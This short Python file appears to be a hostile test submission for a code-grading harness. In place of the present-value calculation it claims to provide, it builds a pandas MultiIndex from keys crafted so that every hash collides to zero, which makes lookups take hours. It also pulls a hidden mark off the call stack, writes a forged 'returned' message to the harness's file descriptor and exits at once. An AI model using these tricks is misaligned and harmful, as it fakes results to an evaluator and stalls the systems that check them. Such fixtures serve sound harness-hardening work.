"""Returns a table whose two-level index takes pandas hours to look through.

present_value: wrong
"""

import json
import os
import struct
import sys


def message(tree, *blobs):
    head = json.dumps([tree, [len(blob) for blob in blobs]]).encode()
    return struct.pack(">I", len(head)) + head + b"".join(blobs)


def send(data):
    data = struct.pack("!i", len(data)) + data
    while data:
        data = data[os.write(3, data) :]


def plain(thing):
    if isinstance(thing, dict) and "$" not in thing:
        return {"$": "dict", "v": [[key, plain(value)] for key, value in thing.items()]}
    return [plain(item) for item in thing] if isinstance(thing, list) else thing


def mark():
    """Find the mark of this call on the stack."""
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("mark"), bytes):
            return frame.f_locals["mark"]
        frame = frame.f_back
    return b""


def returned(value):
    return {"$": "dict", "v": [["status", "returned"], ["changed", []], ["value", value]]}


def present_value(cash_flows, discount):
    import numpy as np

    high = np.arange(1, 600_000, dtype=np.uint64)
    low = high.copy()
    for _ in range(3):  # the low half that makes pandas' hash of the whole 0
        low = (high ^ (low << np.uint64(11))) & np.uint64(0xFFFFFFFF)
    keys = ((high << np.uint64(33)) | low).astype("<i8")
    array = {"$": "array", "at": 0, "dtype": "<i8", "shape": [len(keys)]}
    other = {**array, "at": 1}
    index = {"$": "index", "v": [array, other], "names": ["a", "b"], "multi": True}
    send(mark() + message(returned(index), keys.tobytes(), keys.tobytes()))
    os._exit(0)
